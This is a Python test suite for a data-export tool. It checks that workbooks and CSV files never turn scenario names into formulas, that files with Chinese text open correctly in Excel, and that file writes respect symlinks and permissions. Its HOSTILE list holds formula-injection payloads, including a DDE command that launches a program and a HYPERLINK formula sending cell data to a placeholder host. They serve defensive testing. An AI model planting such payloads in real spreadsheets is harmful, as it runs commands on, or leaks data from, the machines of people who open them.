"""Files that people open: a text is a text in every spreadsheet, Chinese is Chinese, and a file is what was asked for."""

from __future__ import annotations

import codecs
import csv
import io
import os
import stat
from dataclasses import replace
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from xinzhi.content.table_file import unguarded
from xinzhi.content.yaml_file import Text
from xinzhi.dashboard.lever_state import read_upload
from xinzhi.errors import OutputError
from xinzhi.formats.csv_text import csv_bytes
from xinzhi.formats.writing import export_table
from xinzhi.output import write
from xinzhi.project import Project
from xinzhi.show.export import run_bytes
from xinzhi.simulate import Run

HOSTILE = ("=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://x"&A1,"点此")', "+1", "-2+3", "@SUM(1)", "\t=1", "＝1", "#N/A",
           "'=1", "\x01=1")  # fmt: skip
hostile = st.sampled_from(HOSTILE) | st.text(min_size=1, max_size=20).map(lambda text: f"={text}")


def cells(project: Project, run: Run) -> dict[str, list[tuple[object, str]]]:
    book = openpyxl.load_workbook(io.BytesIO(run_bytes(project.content, run, "xlsx", "zh")))
    return {sheet.title: [(it.value, it.data_type) for row in sheet.iter_rows() for it in row] for sheet in book}


@pytest.mark.parametrize("name", HOSTILE)
def test_no_scenario_name_is_a_formula_in_a_workbook(project: Project, name: str) -> None:
    run = project.run()
    told = cells(project, replace(run, scenario=name, name=Text(name, name)))
    kinds = {kind for sheet in told.values() for _, kind in sheet}
    assert not kinds & {"f", "e"}
    assert [value for value, _ in told["about"]].count(name.replace("\x01", "")) == 2
    assert all(isinstance(value, (int, float)) for value, _ in told["results"][len(run.values) + 1 :])


@settings(max_examples=8, deadline=None)
@given(scenario=hostile, name=hostile)
def test_whatever_a_scenario_is_called_it_is_no_formula(project: Project, scenario: str, name: str) -> None:
    told = cells(project, replace(project.run(), scenario=scenario, name=Text(name, name)))
    assert not {kind for sheet in told.values() for _, kind in sheet} & {"f", "e"}


def test_a_colleague_s_file_is_no_formula(project: Project) -> None:
    written = "name: {zh: '=1+1', en: '=1+1'}\nbased_on: baseline\nnarrative: {zh: '=x', en: '=x'}\n"
    state = read_upload(project.content, "=1+1.yaml", written.encode())
    assert state.uploaded is not None
    told = cells(project, project.run(state.uploaded))
    assert ("=1+1", "f") not in told["about"] and any(value == "=1+1" for value, _ in told["targets"])


def test_a_workbook_of_moved_levers_says_so(project: Project) -> None:
    moved = project.run("baseline", {"public_rd_growth": 0.12})
    assert "基准情景（调整后）" in [value for value, _ in cells(project, moved)["about"]]
    assert "基准情景" in [value for value, _ in cells(project, project.run())["about"]]


@given(st.lists(hostile | st.text(max_size=10), min_size=1, max_size=5))
def test_a_text_in_csv_is_no_formula_and_is_read_back(texts: list[str]) -> None:
    texts = [text.replace("\r", "\n") for text in texts if text.isprintable()] or ["=1"]
    table = pd.DataFrame({"=name": pd.Series(texts, dtype=object), "value": [-1.5] * len(texts)})
    written = csv_bytes(table)
    assert written.startswith(codecs.BOM_UTF8) != written.isascii()
    heading, *rows = csv.reader(io.StringIO(written.decode("utf-8-sig")))
    assert heading == ["'=name", "value"]
    assert [unguarded(text) for text, _ in rows] == texts and {value for _, value in rows} == {"-1.5"}
    assert not any(text.startswith(tuple("=+-@\t\r＝＋－＠")) for text, _ in rows)


def test_a_table_with_chinese_opens_in_excel_and_one_without_is_as_before(tmp_path: Path) -> None:
    chinese = pd.DataFrame({"茶温": [90.0, 20.5]}, index=pd.Index([0.0, 1.0], name="time"))
    export_table(chinese, tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_bytes() == codecs.BOM_UTF8 + "time,茶温\n0.0,90.0\n1.0,20.5\n".encode()
    export_table(chinese.rename(columns={"茶温": "tea"}), tmp_path / "b.csv")
    assert (tmp_path / "b.csv").read_bytes() == b"time,tea\n0.0,90.0\n1.0,20.5\n"
    pd.testing.assert_frame_equal(pd.read_csv(tmp_path / "a.csv", index_col="time"), chinese)


def test_a_link_is_followed_and_stays_and_a_file_keeps_its_rights(tmp_path: Path) -> None:
    (tmp_path / "there").mkdir()
    target, link = tmp_path / "there/real.csv", tmp_path / "link.csv"
    target.write_bytes(b"old")
    target.chmod(0o640)
    link.symlink_to("there/real.csv")
    write(link, b"new")
    assert link.is_symlink() and target.read_bytes() == b"new" and stat.S_IMODE(target.stat().st_mode) == 0o640
    dangling = tmp_path / "later.csv"
    dangling.symlink_to("there/later.csv")
    write(dangling, b"new")
    assert dangling.is_symlink() and (tmp_path / "there/later.csv").read_bytes() == b"new"
    assert sorted(it.name for it in (tmp_path / "there").iterdir()) == ["later.csv", "real.csv"]


def test_a_write_protected_file_is_left_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(b"old")
    path.chmod(0o444)
    if os.access(path, os.W_OK):  # root may write all
        monkeypatch.setattr("xinzhi.store.os.access", lambda *_: False)
    with pytest.raises(OutputError, match=r"no permission\); close the program that has it open, or write to another"):
        write(path, b"new")
    assert path.read_bytes() == b"old" and list(tmp_path.iterdir()) == [path]


def test_what_is_no_file_is_written_itself(tmp_path: Path) -> None:
    pipe = tmp_path / "pipe.csv"
    os.mkfifo(pipe)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    write(pipe, b"new")
    assert os.read(reader, 10) == b"new" and stat.S_ISFIFO(pipe.stat().st_mode)
    os.close(reader)
